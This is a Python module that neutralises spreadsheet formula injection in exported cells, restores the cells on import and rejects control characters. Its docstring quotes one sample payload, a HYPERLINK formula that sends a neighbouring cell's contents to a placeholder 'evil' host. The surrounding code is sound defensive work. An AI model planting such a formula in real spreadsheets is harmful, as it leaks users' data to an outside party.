"""Spreadsheet cells that are safe to open: formula injection (CSV/XLSX injection) neutralised on export, undone
on import, and control characters refused.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab, a carriage return or their full-width forms (`＝` …) is
run as a formula by Excel and LibreOffice — a profile name `=HYPERLINK("http://evil/?"&D3,"자세히")` would leak the
next cell when a coordinator opens the roster. Every export writes such text with a leading apostrophe (plain text
in every spreadsheet program, in CSV as in XLSX) and every importer removes it again, so a file exported and
imported unchanged stays unchanged. A value that already starts with apostrophes before such a character gets one
more, so even it survives the round trip.
"""
from __future__ import annotations

import unicodedata
from typing import Any

# A line feed starts no formula, but XML stores a carriage return as one: neutralised too, so XLSX round trips.
TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
PREFIX = "'"


def _needs_prefix(text: str) -> bool:
    rest = text.lstrip(PREFIX)
    return bool(rest) and rest[0] in TRIGGERS


def neutralise(value: Any) -> Any:
    """The value to write into an exported cell (only text is ever changed)."""
    if isinstance(value, str) and _needs_prefix(value):
        return PREFIX + value
    return value


def neutralise_row(row: list | tuple) -> list:
    return [neutralise(v) for v in row]


def restore(value: Any) -> Any:
    """An imported cell as it was before `neutralise` (text that was never neutralised is returned as is)."""
    if isinstance(value, str) and value.startswith(PREFIX) and _needs_prefix(value[1:]):
        return value[1:]
    return value


def control_characters(text: str) -> bool:
    """True when text holds a control character other than tab, newline and carriage return (NUL included):
    refused at the edge, because PostgreSQL cannot store NUL and the others only ever come from attacks or
    broken files."""
    return any(unicodedata.category(ch) == "Cc" and ch not in "\t\n\r" for ch in text)
